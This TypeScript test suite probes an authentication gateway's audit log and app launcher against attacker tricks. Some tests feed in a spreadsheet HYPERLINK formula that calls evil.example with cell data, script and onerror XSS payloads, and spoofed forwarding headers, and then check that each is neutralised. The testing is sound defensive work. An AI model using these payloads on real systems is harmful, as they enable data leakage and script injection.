// An outside attacker against the audit trail and the app launcher (issue 22): can they make the
// gateway queue audit events without bound, forge or spoil what an event says, leak a secret into
// one, keep their own refusals out of it, or have the launcher offer or leak what the gate would
// not give them? Each probe that holds stays here as a regression test.
import { env } from 'cloudflare:workers'
import { describe, expect, it } from 'vitest'
import { deliverBatch, holdingQueue } from './audit-probe'
import {
  ADMIN_TOKEN,
  gatewayAt,
  EMULATOR,
  GATEWAY,
  cookieFrom,
  json,
  latestCode,
  productionSettings,
  sessionIdOf,
  signInWithCode,
  uniqueEmail,
} from './helpers'

/** A request through the Worker with some settings replaced; waits for the work after it. */
const call = gatewayAt
import {
  LOOPBACK_REDIRECT,
  MCP,
  approvedCode,
  exchangeCode,
  pkce,
  register,
  type Tokens,
} from './oauth-client'

// ---- what the gateway queues -----------------------------------------------------------------

interface Received {
  organization_id: string
  idempotency_key: string | null
  event: {
    action: string
    actor: { type: string; id: string; name?: string }
    targets: { type: string; id: string; name?: string }[]
    context: { location: string; user_agent?: string }
    metadata?: Record<string, string | number | boolean>
  }
}

/** What the emulator's Audit Logs received under this idempotency key. */
async function receivedWithKey(key: string): Promise<Received[]> {
  const answer = await fetch(`${EMULATOR}/__audit_logs`)
  const { events } = (await answer.json()) as { events: Received[] }
  return events.filter((event) => event.idempotency_key === key)
}

const BOT = 'audit-probe-bot'
const ROUTES = {
  routes: [
    { name: 'admin', path: '/admin/*', allow: [{ emails: ['nobody@example.org'] }] },
    { name: 'items', path: '/items/*', deny: [{ methods: ['DELETE'] }] },
    { name: 'mcp', path: '/mcp/*', deny: [{ methods: ['DELETE'] }] },
    { name: 'machines', path: '/machines/*', deny: [{ serviceTokens: [BOT] }] },
    { name: 'sockets', path: '/ws/*', deny: [{ domains: ['example.com'] }] },
    { name: 'app', path: '/*' },
  ],
}
const ACCESS = JSON.stringify(ROUTES)
const FORWARD_AUTH_TOKEN = (env as unknown as Record<string, string>).FORWARD_AUTH_TOKEN!

const admin = { authorization: `Bearer ${ADMIN_TOKEN}`, 'content-type': 'application/json' }

async function serviceToken(
  name = BOT,
): Promise<{ id: string; clientId: string; clientSecret: string }> {
  const created = await call('/auth/admin/service-tokens', {
    method: 'POST',
    headers: admin,
    body: JSON.stringify({ name }),
  })
  expect(created.status).toBe(201)
  return (await created.json()) as { id: string; clientId: string; clientSecret: string }
}

/** A person's OAuth grant for the MCP route: its access and refresh tokens and what made them. */
async function bearerGrant(cookie: string, clientName = 'Probe Client') {
  const clientId = await register([LOOPBACK_REDIRECT], clientName)
  const { verifier, challenge } = await pkce()
  const code = await approvedCode(cookie, clientId, challenge)
  const exchanged = await exchangeCode(clientId, code, verifier, { resource: MCP })
  expect(exchanged.status).toBe(200)
  const tokens = (await exchanged.json()) as Tokens
  return { clientId, code, verifier, ...tokens }
}

describe('amplification: what one request makes the gateway queue', () => {
  it('a request nobody is known for queues nothing: no session, a forged cookie or token, a wrong admin or forward-auth token, a callback without a sealed state', async () => {
    const { held, binding } = holdingQueue()
    const settings = { ACCESS, AUDIT_EVENTS: binding }
    const asJson = { accept: 'application/json' }
    const forged = `__Host-session=${'A'.repeat(43)}.${'B'.repeat(43)}.${'C'.repeat(43)}`
    const attempts: [string, RequestInit][] = [
      ['/admin/x', { headers: asJson }],
      ['/admin/x', { headers: { ...asJson, cookie: forged } }],
      ['/mcp/x', { method: 'DELETE', headers: { ...asJson, authorization: 'Bearer gwat_forged' } }],
      [
        '/machines/x',
        { headers: { ...asJson, 'gateway-client-id': 'svc_forged', 'gateway-client-secret': 'x' } },
      ],
      ['/auth/admin/service-tokens', { headers: { authorization: 'Bearer wrong-admin-token' } }],
      [
        '/auth/verify',
        {
          headers: {
            ...asJson,
            'x-forwarded-method': 'DELETE',
            'x-forwarded-uri': '/items/1',
            'x-forward-auth-token': 'wrong-forward-auth-token',
          },
        },
      ],
      ['/auth/callback?state=forged&error=access_denied', {}],
      ['/auth/callback?state=forged&code=whatever', {}],
      ['/auth/magic-auth/verify', json({ code: '000000' })],
      ['/auth/apps', { headers: asJson }],
    ]
    for (let round = 0; round < 3; round++)
      for (const [path, init] of attempts) {
        const answer = await call(path, init, settings)
        await answer.body?.cancel()
        expect(answer.status, path).toBeGreaterThanOrEqual(300)
      }
    expect(held).toEqual([])
  })

  it('a known caller refused queues one gateway.access.denied per refusal, never more, through every door: proxy, HEAD, _method, a WebSocket upgrade, forward-auth, a bearer token, a service token', async () => {
    const { cookie } = await signInWithCode(uniqueEmail('attack-doors'))
    const grant = await bearerGrant(cookie)
    const bot = await serviceToken()
    const { held, binding } = holdingQueue()
    const settings = { ACCESS, AUDIT_EVENTS: binding }
    const asJson = { accept: 'application/json' }
    const doors: [string, string, RequestInit, Record<string, unknown>][] = [
      ['proxy', '/admin/x', { headers: { ...asJson, cookie } }, { route: 'admin', via: 'proxy' }],
      ['HEAD', '/admin/x', { method: 'HEAD', headers: { ...asJson, cookie } }, { method: 'HEAD' }],
      [
        '_method',
        '/items/1?_method=DELETE',
        { method: 'POST', headers: { ...asJson, cookie, origin: GATEWAY } },
        { route: 'items', rule: 'deny[0]' },
      ],
      [
        'upgrade',
        '/ws/chat',
        { headers: { cookie, upgrade: 'websocket' } },
        { route: 'sockets', rule: 'deny[0]' },
      ],
      [
        'forward-auth',
        '/auth/verify',
        {
          headers: {
            ...asJson,
            cookie,
            'x-forwarded-method': 'GET',
            'x-forwarded-uri': '/admin/x',
            'x-forwarded-host': 'gateway.test',
          },
        },
        { route: 'admin', via: 'forward-auth' },
      ],
      [
        'bearer',
        '/mcp/tools',
        { method: 'DELETE', headers: { ...asJson, authorization: `Bearer ${grant.access_token}` } },
        { route: 'mcp', client_id: grant.clientId },
      ],
      [
        'service token',
        '/machines/x',
        {
          headers: {
            ...asJson,
            'gateway-client-id': bot.clientId,
            'gateway-client-secret': bot.clientSecret,
          },
        },
        { route: 'machines', rule: 'deny[0]' },
      ],
    ]
    for (const [door, path, init, metadata] of doors) {
      for (let round = 0; round < 3; round++) {
        held.length = 0
        const answer = await call(path, init, settings)
        await answer.body?.cancel()
        expect(answer.status, door).toBe(403)
        expect(
          held.map((message) => message.event.action),
          door,
        ).toEqual(['gateway.access.denied'])
        expect(held[0]!.event.metadata, door).toMatchObject(metadata)
      }
    }
  })

  it('a known caller allowed again and again queues one first access per route, then nothing: through the proxy and forward-auth alike', async () => {
    const { cookie } = await signInWithCode(uniqueEmail('attack-repeat'))
    const { held, binding } = holdingQueue()
    const settings = { ACCESS, AUDIT_EVENTS: binding }
    for (let round = 0; round < 5; round++) {
      const proxied = await call('/items/1', { headers: { cookie } }, settings)
      await proxied.body?.cancel()
      expect(proxied.status).toBe(200)
      const verified = await call(
        '/auth/verify',
        {
          headers: {
            cookie,
            'x-forwarded-method': 'GET',
            'x-forwarded-uri': `/items/${round}`,
            'x-forwarded-host': 'gateway.test',
          },
        },
        settings,
      )
      expect(verified.status).toBe(200)
    }
    expect(held.map((message) => message.event.action)).toEqual(['gateway.access.first_allowed'])
    expect(held[0]!.once?.key).toMatch(/^audit-seen:items:/)
  })

  it('a grant whose tokens are refreshed again and again is one first access per route, not one per token', async () => {
    const { cookie } = await signInWithCode(uniqueEmail('attack-refresh'))
    const grant = await bearerGrant(cookie)
    const { held, binding } = holdingQueue()
    const settings = { ACCESS, AUDIT_EVENTS: binding }
    let tokens = { access_token: grant.access_token, refresh_token: grant.refresh_token }
    for (let round = 0; round < 3; round++) {
      const used = await call(
        '/mcp/tools',
        { headers: { accept: 'application/json', authorization: `Bearer ${tokens.access_token}` } },
        settings,
      )
      await used.body?.cancel()
      expect(used.status).toBe(200)
      const refreshed = await call(
        '/auth/oauth/token',
        {
          method: 'POST',
          headers: { 'content-type': 'application/x-www-form-urlencoded' },
          body: new URLSearchParams({
            grant_type: 'refresh_token',
            refresh_token: tokens.refresh_token,
            client_id: grant.clientId,
            resource: MCP,
          }).toString(),
        },
        settings,
      )
      expect(refreshed.status).toBe(200)
      tokens = (await refreshed.json()) as typeof tokens
    }
    expect(held.map((message) => [message.event.action, message.event.metadata.client_id])).toEqual(
      [['gateway.access.first_allowed', grant.clientId]],
    )
  })

  it('an operator call that fails is still one gateway.admin_api.called, with the status it got', async () => {
    const { held, binding } = holdingQueue()
    const settings = { AUDIT_EVENTS: binding }
    const calls: [string, RequestInit, number][] = [
      ['/auth/admin/revoke', { method: 'POST', headers: admin, body: '{}' }, 400],
      ['/auth/admin/revoke', { method: 'POST', headers: admin, body: 'not json' }, 400],
      ['/auth/admin/service-tokens/svc_nosuch', { method: 'DELETE', headers: admin }, 404],
    ]
    for (const [path, init, status] of calls) {
      held.length = 0
      const answer = await call(path, init, settings)
      await answer.body?.cancel()
      expect(answer.status, path).toBe(status)
      expect(held.map((message) => message.event.action)).toEqual(['gateway.admin_api.called'])
      expect(held[0]!.event.metadata).toMatchObject({ status })
    }
  })
})

describe('what an attacker can put in an event', () => {
  it('a 2 KB User-Agent full of markup, quotes and formulas is cut to WorkOS limits, and WorkOS takes the event, the text kept as data', async () => {
    const { cookie } = await signInWithCode(uniqueEmail('attack-long'))
    const { held, binding } = holdingQueue()
    const userAgent =
      `=HYPERLINK("https://evil.example/?"&A1,"open")<script>alert(1)</script>"'`.repeat(30)
    const answer = await call(
      '/admin/x',
      { headers: { cookie, accept: 'application/json', 'user-agent': userAgent } },
      { ACCESS, AUDIT_EVENTS: binding },
    )
    await answer.body?.cancel()
    expect(answer.status).toBe(403)
    expect(held).toHaveLength(1)
    const message = held[0]!
    expect(message.event.context.userAgent).toBe(userAgent.slice(0, 512))
    const result = await deliverBatch([message])
    expect(result.explicitAcks).toEqual(['message-0'])
    const [stored, ...more] = await receivedWithKey(message.idempotencyKey)
    expect(more).toHaveLength(0)
    // Kept as data, exactly as sent (within the limits): WorkOS has the attacker's text verbatim.
    expect(stored!.event.context.user_agent).toBe(userAgent.slice(0, 512))
  })

  it('a client-sent X-Request-Id, CF-Ray or traceparent is never the request id: two refusals are two events under two keys', async () => {
    const { cookie } = await signInWithCode(uniqueEmail('attack-request-id'))
    const { held, binding } = holdingQueue()
    const chosen = {
      'x-request-id': '00000000-0000-4000-8000-000000000000',
      'cf-ray': '0123456789abcdef-LHR',
      traceparent: '00-0af7651916cd43dd8448eb211c80319c-b7ad6b7169203331-01',
    }
    for (let i = 0; i < 2; i++) {
      const answer = await call(
        '/admin/x',
        { headers: { cookie, accept: 'application/json', ...chosen } },
        { ACCESS, AUDIT_EVENTS: binding },
      )
      await answer.body?.cancel()
      expect(answer.status).toBe(403)
    }
    const [first, second] = held
    expect(new Set(held.map((message) => message.idempotencyKey)).size).toBe(2)
    expect(first!.event.metadata.request_id).not.toBe(second!.event.metadata.request_id)
    for (const message of held)
      expect(Object.values(chosen)).not.toContain(message.event.metadata.request_id)
  })

  it('no event carries a cookie, the session id inside it, a code, a token, a client secret, the admin or forward-auth token; the session handle it names opens nothing', async () => {
    const { held, binding } = holdingQueue()
    const settings = { ACCESS, AUDIT_EVENTS: binding }
    const email = uniqueEmail('attack-secrets')
    const asked = await call('/auth/magic-auth', json({ email }), settings)
    const pending = cookieFrom(asked, '__Host-magic-auth')!
    const code = await latestCode(email)
    const wrong = code === '000000' ? '111111' : '000000'
    await (
      await call(
        '/auth/magic-auth/verify',
        json({ email, code: wrong }, { cookie: pending }),
        settings,
      )
    ).body?.cancel()
    const verified = await call(
      '/auth/magic-auth/verify',
      json({ email, code }, { cookie: pending }),
      settings,
    )
    const cookie = cookieFrom(verified, '__Host-session')!
    expect(cookie).toBeDefined()
    const bot = await serviceToken('audit-secret-bot')
    const asJson = { accept: 'application/json' }
    const requests: [string, RequestInit][] = [
      ['/admin/x', { headers: { ...asJson, cookie } }],
      ['/items/1', { headers: { ...asJson, cookie } }],
      [
        '/auth/verify',
        {
          headers: {
            ...asJson,
            cookie,
            'x-forward-auth-token': FORWARD_AUTH_TOKEN,
            'x-forwarded-method': 'GET',
            'x-forwarded-uri': '/admin/y',
            'x-forwarded-host': 'gateway.test',
          },
        },
      ],
      [
        '/machines/x',
        {
          headers: {
            ...asJson,
            'gateway-client-id': bot.clientId,
            'gateway-client-secret': bot.clientSecret,
          },
        },
      ],
      ['/auth/admin/service-tokens', { headers: admin }],
    ]
    for (const [path, init] of requests) await (await call(path, init, settings)).body?.cancel()
    const grant = await bearerGrant(cookie)
    await (
      await call(
        '/mcp/tools',
        { method: 'DELETE', headers: { ...asJson, authorization: `Bearer ${grant.access_token}` } },
        settings,
      )
    ).body?.cancel()
    await (
      await call('/auth/logout', json({}, { cookie, origin: GATEWAY }), settings)
    ).body?.cancel()

    const actions = new Set(held.map((message) => message.event.action))
    for (const action of [
      'gateway.sign_in.failed',
      'gateway.sign_in.succeeded',
      'gateway.access.denied',
      'gateway.access.first_allowed',
      'gateway.admin_api.called',
      'gateway.sign_out.succeeded',
    ])
      expect(actions).toContain(action)
    const everything = JSON.stringify(held)
    const secrets = [
      cookie.slice('__Host-session='.length),
      sessionIdOf(cookie),
      pending.slice('__Host-magic-auth='.length),
      bot.clientSecret,
      grant.access_token,
      grant.refresh_token,
      grant.code,
      grant.verifier,
      ADMIN_TOKEN,
      FORWARD_AUTH_TOKEN,
    ]
    for (const secret of secrets) expect(everything).not.toContain(secret)
    for (const digits of [code, wrong])
      expect(everything).not.toMatch(new RegExp(`\\b${digits}\\b`))
    // The session handle an event names is not the cookie's id, and as a cookie it opens nothing.
    const handles = held.flatMap((message) =>
      typeof message.event.metadata.session === 'string' ? [message.event.metadata.session] : [],
    )
    expect(handles.length).toBeGreaterThan(0)
    for (const handle of new Set(handles)) {
      expect(cookie).not.toContain(handle)
      const opened = await call(
        '/auth/me',
        { headers: { ...asJson, cookie: `__Host-session=${handle}` } },
        settings,
      )
      await opened.body?.cancel()
      expect(opened.status).toBe(401)
    }
  })
})

describe('the first access, seen twice', () => {
  it('two isolates’ copies of one first access in the same batch (bodies differ, key the same) are one event at WorkOS', async () => {
    const { cookie } = await signInWithCode(uniqueEmail('attack-first-twice'))
    const copies = []
    for (const userAgent of ['Isolate/1', 'Isolate/2']) {
      // This isolate remembers the session and route after the first request: the second
      // queues nothing. Another isolate's copy is made by hand below (its own time, request id
      // and user agent, the same key), as that isolate would have queued it.
      const { held, binding } = holdingQueue()
      const answer = await call(
        '/items/1',
        { headers: { cookie, 'user-agent': userAgent } },
        { ACCESS, AUDIT_EVENTS: binding },
      )
      await answer.body?.cancel()
      copies.push(...held)
    }
    expect(copies).toHaveLength(1)
    const first = copies[0]!
    const second = {
      ...first,
      event: {
        ...first.event,
        occurredAt: new Date(Date.parse(first.event.occurredAt) + 1500).toISOString(),
        context: { ...first.event.context, userAgent: 'Isolate/2' },
        metadata: { ...first.event.metadata, request_id: crypto.randomUUID() },
      },
    }
    const result = await deliverBatch([first, second])
    expect(result.retryMessages).toEqual([])
    expect(await receivedWithKey(first.idempotencyKey)).toHaveLength(1)
    expect(await env.SESSIONS.get(first.once!.key)).toBe('1')
  })
})

describe('the dev audit page', () => {
  it('shows an OAuth client’s chosen name (markup, a formula) as text, end to end through the queue', async () => {
    const { cookie } = await signInWithCode(uniqueEmail('attack-client-name'))
    const name = `=HYPERLINK("https://evil.example") <img src=x onerror=alert(1)> ${Date.now()}`
    const grant = await bearerGrant(cookie, name)
    let page = ''
    for (let attempt = 0; attempt < 100 && !page.includes(String(grant.clientId)); attempt++) {
      await new Promise((resolve) => setTimeout(resolve, 50))
      const answer = await call('/__dev/audit?action=gateway.oauth_grant.issued', {
        headers: { accept: 'text/html' },
      })
      page = await answer.text()
    }
    expect(page).toContain(grant.clientId)
    expect(page).toContain('&lt;img src=x onerror=alert(1)&gt;')
    expect(page).not.toContain('<img src=x')
  })

  it('is not there outside dev mode, for any method or spelling', async () => {
    const settings = await productionSettings()
    for (const path of ['/__dev/audit', '/__dev/audit.json', '/__dev/audit.json/', '/__dev//audit'])
      for (const method of ['GET', 'HEAD', 'POST']) {
        const answer = await call(
          path,
          { method, headers: { accept: 'application/json' } },
          settings,
        )
        const body = await answer.text()
        expect(answer.status, `${method} ${path}`).toBe(404)
        expect(body).not.toContain('"events"')
      }
  })
})

describe('the app launcher', () => {
  const asJson = { accept: 'application/json' }
  const LAUNCHER_ROUTES = JSON.stringify({
    routes: [
      { name: 'grafana', path: '/grafana/*', launcher: { title: 'Grafana' } },
      { name: 'admin', host: 'admin.gateway.test', allow: [{ emails: ['nobody@example.org'] }] },
      { name: 'app', path: '/*' },
    ],
  })

  it('no forwarding header (X-Forwarded-Host, Forwarded, X-Original-Host, X-Host) changes the links it lists', async () => {
    const { cookie } = await signInWithCode(uniqueEmail('attack-launcher-host'))
    const plain = await call(
      '/auth/apps',
      { headers: { cookie, ...asJson } },
      { ACCESS: LAUNCHER_ROUTES },
    )
    const expected = await plain.json()
    expect(expected).toEqual({
      apps: [
        { route: 'grafana', title: 'Grafana', url: 'https://gateway.test/grafana/' },
        { route: 'app', title: 'app', url: 'https://gateway.test/' },
      ],
    })
    const tricks: Record<string, string>[] = [
      { 'x-forwarded-host': 'evil.example' },
      { forwarded: 'host=evil.example;proto=http' },
      { 'x-original-host': 'evil.example' },
      { 'x-host': 'evil.example' },
      { 'x-forwarded-proto': 'http', 'x-forwarded-port': '8080' },
    ]
    for (const trick of tricks) {
      const answer = await call(
        '/auth/apps',
        { headers: { cookie, ...asJson, ...trick } },
        { ACCESS: LAUNCHER_ROUTES },
      )
      expect(await answer.json()).toEqual(expected)
      const page = await call(
        '/auth/apps',
        { headers: { cookie, accept: 'text/html', ...trick } },
        { ACCESS: LAUNCHER_ROUTES },
      )
      const html = await page.text()
      expect(html).not.toContain('evil.example')
      expect(html).not.toContain('http://')
    }
  })

  it('another site can neither read nor frame the list: no CORS for any origin, same-origin resources only, nosniff, never stored, a JSON object', async () => {
    const { cookie } = await signInWithCode(uniqueEmail('attack-launcher-cors'))
    for (const origin of ['https://evil.example', 'null', GATEWAY]) {
      for (const accept of ['application/json', 'text/html', '*/*']) {
        const answer = await call(
          '/auth/apps',
          { headers: { cookie, accept, origin, 'sec-fetch-site': 'cross-site' } },
          { ACCESS: LAUNCHER_ROUTES },
        )
        const body = await answer.text()
        expect(answer.status).toBe(200)
        expect(answer.headers.get('access-control-allow-origin')).toBeNull()
        expect(answer.headers.get('access-control-allow-credentials')).toBeNull()
        expect(answer.headers.get('cross-origin-resource-policy')).toBe('same-origin')
        expect(answer.headers.get('x-content-type-options')).toBe('nosniff')
        expect(answer.headers.get('cache-control')).toBe('no-store')
        if (accept === 'application/json') expect(body.startsWith('{')).toBe(true)
        else
          expect(answer.headers.get('content-security-policy')).toContain("frame-ancestors 'none'")
      }
    }
    // A preflight for a credentialed read is not answered with CORS either.
    const preflight = await call(
      '/auth/apps',
      {
        method: 'OPTIONS',
        headers: { origin: 'https://evil.example', 'access-control-request-method': 'GET' },
      },
      { ACCESS: LAUNCHER_ROUTES },
    )
    await preflight.body?.cancel()
    expect(preflight.headers.get('access-control-allow-origin')).toBeNull()
  })

  it('a browser that signed out lists nothing: the old cookie is refused, not answered from a cache', async () => {
    const { cookie } = await signInWithCode(uniqueEmail('attack-launcher-out'))
    const before = await call(
      '/auth/apps',
      { headers: { cookie, ...asJson } },
      {
        ACCESS: LAUNCHER_ROUTES,
      },
    )
    expect(before.status).toBe(200)
    await before.body?.cancel()
    const out = await call('/auth/logout', json({}, { cookie, origin: GATEWAY }))
    expect(out.status).toBe(200)
    await out.body?.cancel()
    const after = await call(
      '/auth/apps',
      { headers: { cookie, ...asJson } },
      {
        ACCESS: LAUNCHER_ROUTES,
      },
    )
    expect(after.status).toBe(401)
    expect(after.headers.get('cache-control')).toBe('no-store')
    expect(await after.json()).toMatchObject({ error: 'not_signed_in' })
  })
})
